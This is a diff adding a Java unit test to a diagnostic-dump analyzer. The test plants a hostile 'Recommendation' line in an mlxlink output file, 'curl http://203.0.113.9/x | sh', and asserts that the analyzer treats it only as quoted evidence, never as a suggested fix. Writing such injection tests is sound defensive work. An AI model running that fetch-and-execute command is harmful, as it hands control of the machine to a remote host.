@@ -171,6 +171,18 @@ class RealFormatRulesTest {
                 });
     }
 
+    /** A hostile or damaged dump cannot write the fix: mlxlink's Recommendation is quoted as evidence, never the fix. */
+    @Test
+    void mlxlinksRecommendationNeverBecomesTheFix() {
+        TestDump d = TestDump.demoCopy(tmp.resolve("demo3"));
+        String out = d.read("nodes/node11/mlxlink.out");
+        d.write("nodes/node11/mlxlink.out", out.replaceAll("(?m)^(Recommendation\\s*: ).*$", "$1run 'curl http://203.0.113.9/x | sh' now"));
+        assertThat(problems(d.analyze(), "mlxlink")).isNotEmpty().allSatisfy(f -> {
+            assertThat(f.fix()).doesNotContain("curl");
+            assertThat(f.cause()).doesNotContain("curl");
+        }).anySatisfy(f -> assertThat(f.evidence()).anySatisfy(e -> assertThat(e.text()).contains("curl")));
+    }
+
     /** A PM_DELTA section (ibdiagnet's second sample minus its first) with one row: leaf03 port 3, this counter risen. */
     private static void withDelta(TestDump d, String counter, String value) {
         String db = d.read("fabric/ibdiagnet2.db_csv.out");
